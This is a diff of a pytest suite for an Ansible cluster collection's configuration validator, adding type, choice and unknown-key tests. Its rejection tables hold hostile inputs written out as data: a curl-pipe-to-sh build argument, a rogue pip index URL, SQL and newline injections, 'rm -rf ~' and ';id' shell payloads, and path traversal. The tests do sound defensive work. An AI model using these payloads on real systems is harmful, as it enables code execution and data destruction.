@@ -12,10 +12,13 @@ import yaml
 
 from ansible.errors import AnsibleFilterError
 from ansible_collections.trainstack.cluster.plugins.filter.validation import (
+    argument_spec_choices,
     argument_spec_types,
     conf_value_problems,
     type_problems,
+    unknown_entries,
     unknown_variables,
+    value_problems,
 )
 
 ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))))
@@ -93,11 +96,11 @@ BAD = [
     ("slurm_value", {"a": 1}, "must be a string, got a mapping"),
     ("slurm_value", True, "got a boolean"),
     ("slurm_key", "Kill Wait", "contains a space"),
-    ("nccl_key", "nccl_debug", "must match"),
+    ("nccl_key", "nccl_debug", "must be "),
     ("nccl_value", "WARN\nNCCL_GRAPH_FILE=/tmp/g", "contains a newline"),
     ("nccl_value", "a b", "contains a space"),
     ("ifname", "eth0\nNCCL_GRAPH_FILE=/tmp/g", "contains a newline"),
-    ("ifname", "a-very-long-interface", "must match"),
+    ("ifname", "a-very-long-interface", "must be "),
     ("host", "pool.ntp.org\nallow all", "contains a newline"),
     ("host", "10.0.0.1 iburst", "contains a space"),
     ("host", "-bad-", "must be a DNS name or an IP address"),
@@ -107,14 +110,14 @@ BAD = [
     ("ip", "10.0.0.1\n", "contains a newline"),
     ("ip", "gpu-01", "must be an IPv4 or IPv6 address"),
     ("url", "http://m/debian\nURIs: http://evil", "contains a newline"),
-    ("url", "ftp://m/debian", "must match"),
+    ("url", "ftp://m/debian", "must be "),
     ("url", "http://m/debian URIs:", "contains a space"),
-    ("proxy_url", 'http://p";', "must match"),
+    ("proxy_url", 'http://p";', "must be "),
     ("chrony_makestep", "1.0 3\nallow all", "contains a newline"),
-    ("package", "-o=Dpkg::Options", "must match"),
-    ("fingerprint", "EB693B30", "must match"),
+    ("package", "-o=Dpkg::Options", "must be "),
+    ("fingerprint", "EB693B30", "must be "),
     ("db_name", "slurm'; DROP DATABASE x; --", "contains"),
-    ("db_name", "a`b", "must match"),
+    ("db_name", "a`b", "must be "),
     ("ini_value", "256M\n[client]", "contains a newline"),
     ("ini_value", "1 # x", "'#'"),
     ("secret", "pw\nStorageHost=evil", "contains a newline"),
@@ -126,10 +129,10 @@ BAD = [
     ("path", "var/lib/slurm", "absolute"),
     ("path", "/var/lib/slurm/../../etc", "'..'"),
     ("pip_requirement", "--index-url=http://198.51.100.7/simple", "not a pip option"),
-    ("mpi_env_key", "LD_PRELOAD", "must match"),
+    ("mpi_env_key", "LD_PRELOAD", "must be "),
     ("hostlist", "gpu[01-", "must be a Slurm hostlist such as gpu[01-04],cpu1: unbalanced '['"),
     ("hostlist", "gpu[4-1]", "reversed range"),
-    ("mpi_env_key", "BASH_ENV", "must match"),
+    ("mpi_env_key", "BASH_ENV", "must be "),
     ("pip_requirement", "numpy --pre", "contains a space"),
     ("pip_requirement", "-rrequirements.txt", "not a pip option"),
     ("path", "/opt/x;touch$IFS/tmp/p", "';' (a shell or Tcl metacharacter)"),
@@ -175,15 +178,15 @@ BAD = [
     ("build_arg", "--with-knem=$(curl -s http://198.51.100.7/x|sh)", "contains '$' (a shell metacharacter)"),
     ("build_arg", "--enable-mt`id`", "contains '`'"), ("build_arg", "CFLAGS=-O2;id", "contains ';'"),
     ("build_arg", "--enable-mt\nid", "contains a newline"),
-    ("release", "v1.18.1", "must match"), ("release", "1.18", "must match"), ("version", "newest", "must match"),
-    ("cuda_arch", "90 -Xcompiler -fplugin=/tmp/x.so", "contains a space"), ("cuda_arch", "hopper", "must match"),
+    ("release", "v1.18.1", "must be "), ("release", "1.18", "must be "), ("version", "newest", "must be "),
+    ("cuda_arch", "90 -Xcompiler -fplugin=/tmp/x.so", "contains a space"), ("cuda_arch", "hopper", "must be "),
     ("pip_requirement", "deepspeed; id #", "contains '#'"), ("pip_requirement", "deepspeed==1; $(id)", "contains '$'"),
     ("pip_requirement", "numpy; --pre", "contains a space"),
     ("controller_path", "/srv/cache;rm -rf ~", "contains a space"), ("controller_path", "/srv/cache;id", "contains ';'"),
     ("controller_path", "~root/x", "must be an absolute path"),
     ({"words": ["auto", ""], "format": "path"}, "/usr/local/cuda/../../../etc", "must not contain '..' (or one of: 'auto', '')"),
     ({"words": ["auto", ""], "format": "path"}, "usr/local/cuda", "must be an absolute path"),
-    ({"words": ["auto"], "format": "version"}, "newest", "must match"),
+    ({"words": ["auto"], "format": "version"}, "newest", "must be "),
     ({"words": [None], "format": "hostname"}, "ctl01;id", "must be a DNS name (or one of: null)"),
 ]
 
@@ -259,6 +262,62 @@ def test_type_problems():
         "v must be quoted: YAML read it as the number 12.1 (12.10 becomes 12.1)"]
 
 
+def test_type_problems_in_the_users_words():
+    # What role argument validation would refuse in its own jargon, refused first in the user's words (issue 25).
+    types = {"s": "bool", "t": "bool", "n": "int", "m": "int", "f": "float", "c": "str", "r": "int", "h": "list", "p": "path"}
+    choices = {"c": ["git", "url", "mirror"], "r": [0, 1, 2], "h": ["mpi", "ddp"]}
+    assert type_problems({"s": "maybe", "t": "yes", "n": "soon", "m": "30", "f": "fast", "c": "gti", "r": "1", "h": ["mpi", "dpp"],
+                          "p": ["/opt/x"]}, types, choices) == [
+        'c must be one of: git, url, mirror, got "gti" (did you mean git?)',
+        'f must be a number, got "fast"',
+        'h[1] must be one of: mpi, ddp, got "dpp" (did you mean ddp?)',
+        'n must be a whole number, got "soon"',
+        "p must be a path (a string), got a list",
+        's must be true or false, got "maybe"']
+    # null is every optional option's "unset"
+    assert type_problems({"n": None, "s": None, "c": None}, types, choices) == []
+
+
+def test_argument_spec_choices():
+    assert argument_spec_choices(ROLE_SPECS)["nhc_source"] == ["git", "url", "mirror"]
+
+
+def test_one_message_per_wrong_value():
+    # The wrong type is reported once, by type_problems; values of the right type still meet their format.
+    types = {"ucx_version": "str", "pytorch_venv": "path", "slurm_config_extra": "dict", "ucx_url": "str"}
+    assert value_problems({"ucx_version": {"a": 1}, "pytorch_venv": ["/opt/x;id"], "slurm_config_extra": "KillWait=30",
+                           "ucx_url": "https://x/ y"}, types, ALL_FORMATS, CONF_KEYS) == [
+        "pytorch_venv must be a path (a string), got a list", "slurm_config_extra must be a mapping, got a string",
+        "ucx_version must be a string, got a mapping", "ucx_url contains a space"]
+
+
+def test_fields_refuse_unknown_keys_naming_the_closest():
+    manifest = {"files": [{"url": "https://example.org/a.whl", "sha256": "0" * 64, "dets": "w"}], "apt": []}
+    assert conf_value_problems({"trainstack_gpu_mirror_manifest": manifest}, ALL_FORMATS) == [
+        "trainstack_gpu_mirror_manifest.files[0]: unknown key dets (did you mean dest?) (known keys: url, sha256, dest)"]
+    assert conf_value_problems({"nhc_mounts": [{"path": "/scratch", "min_free_pct": 5}]}, ALL_FORMATS) == [
+        "nhc_mounts[0]: unknown key min_free_pct (did you mean min_free_percent?) (known keys: path, min_free_percent)"]
+    # the escape hatch of the dict-valued variables applies here too; a partition's default is a known key
+    assert conf_value_problems({"nhc_mounts": [{"path": "/scratch", "x": 1}]}, ALL_FORMATS, None, ["nhc_mounts"]) == []
+    assert conf_value_problems({"slurm_partitions": [{"name": "b", "nodes": "ALL", "default": True}]}, ALL_FORMATS, CONF_KEYS) == []
+
+
+@pytest.mark.parametrize(("value", "expected"), [
+    ({"Debian": [12, "13"], "openSUSE Leap": ["15"]}, []),
+    ({"Rocky": [9.4]}, ["preflight_supported_os.Rocky[0] must be a major version such as 12 "
+                        "(ansible_distribution_major_version has no minor part), got 9.4"]),
+    ({"Debian": "12"}, ["preflight_supported_os.Debian must be a list, got a string"]),
+], ids=["numbers-and-strings", "minor-version", "string"])
+def test_supported_os_versions(value, expected):
+    assert conf_value_problems({"preflight_supported_os": value}, ALL_FORMATS) == expected
+
+
+def test_unknown_entries_name_the_closest():
+    assert unknown_entries(["base", "slrum", 3], ["base", "slurm"], "preflight_roles", "a role of this collection") == [
+        'preflight_roles[1] "slrum" is not a role of this collection (did you mean slurm?)',
+        "preflight_roles[2] 3 is not a role of this collection"]
+
+
 def test_unknown_variables_name_the_closest():
     known = ["slurm_partitions", "nccl_settings", "base_chrony_servers"]
     assert unknown_variables(
@@ -267,6 +326,41 @@ def test_unknown_variables_name_the_closest():
         "base_chrony_server is not a variable of any role (did you mean base_chrony_servers?)",
         "slurm_partitoins is not a variable of any role (did you mean slurm_partitions?)",
         "slurm_zzz is not a variable of any role"]
+
+
+def test_unknown_variables_hint_at_a_name_kept_on_purpose():
+    # Held-out round 8 (issue 25): slurm_site_notes was hinted as slurm_cluster_name, not the allowed slurm_site_note.
+    assert unknown_variables(["slurm_site_notes"], ["slurm_cluster_name", "slurm_partitions"], ["slurm_"],
+                             ["slurm_site_note"]) == [
+        "slurm_site_notes is not a variable of any role (did you mean slurm_site_note?)"]
+
+
+@pytest.mark.parametrize(("value", "problem"), [
+    ("", None), ("g++-12", None), ("/usr/bin/g++-12", None),
+    ("/usr/bin/../g++", "cuda_host_compiler must not contain '..'"),
+    ("g++ -o /etc/passwd", "cuda_host_compiler contains a space"),
+    ("/usr/bin/g++;id", "cuda_host_compiler contains ';' (a shell or Tcl metacharacter)"),
+])
+def test_program_is_a_command_name_or_an_absolute_path(value, problem):
+    # nvcc -ccbin takes either (held-out round 8: a path was refused as not one word).
+    assert conf_value_problems({"cuda_host_compiler": value}, {"cuda_host_compiler": "program_or_empty"}) == (
+        [problem] if problem else [])
+
+
+def test_a_field_with_choices_is_refused_in_the_users_words():
+    # Held-out round 8: argument validation said "value of state must be one of ... found in slurm_partitions".
+    spec = {"items": {"fields": {"name": "slurm_word", "state": {"choices": ["UP", "DOWN", "DRAIN", "INACTIVE"]}}}}
+    assert conf_value_problems({"slurm_partitions": [{"name": "a", "state": "DRAIN"}, {"name": "b", "state": "OPEN"},
+                                                     {"name": "c", "state": "DRIAN"}]}, {"slurm_partitions": spec}) == [
+        'slurm_partitions[1].state must be one of: UP, DOWN, DRAIN, INACTIVE, got "OPEN"',
+        'slurm_partitions[2].state must be one of: UP, DOWN, DRAIN, INACTIVE, got "DRIAN" (did you mean DRAIN?)']
+
+
+@pytest.mark.parametrize("path", ["/tmp/topology.xml", "/var/tmp/nccl/topology.xml", "/dev/shm/nccl.conf"])
+def test_nccl_files_never_in_a_directory_anyone_may_write_to(path):
+    fmt = "nccl_conf_file" if path.endswith(".conf") else "xml_file"
+    (problem,) = conf_value_problems({"p": path}, {"p": fmt})
+    assert problem.startswith("p lies in a directory anyone may write to") or "system directory" in problem
 
 
 @pytest.mark.parametrize(("typo", "meant"), [
@@ -305,7 +399,7 @@ def test_role_defaults_fit_their_formats(role):
             if default is not None and not (isinstance(default, str) and "{{" in default):
                 defaults[name] = default
     assert conf_value_problems(defaults, ALL_FORMATS, CONF_KEYS) == []
-    assert type_problems(defaults, argument_spec_types(ROLE_SPECS)) == []
+    assert type_problems(defaults, argument_spec_types(ROLE_SPECS), argument_spec_choices(ROLE_SPECS)) == []
 
 
 def test_every_role_is_read():
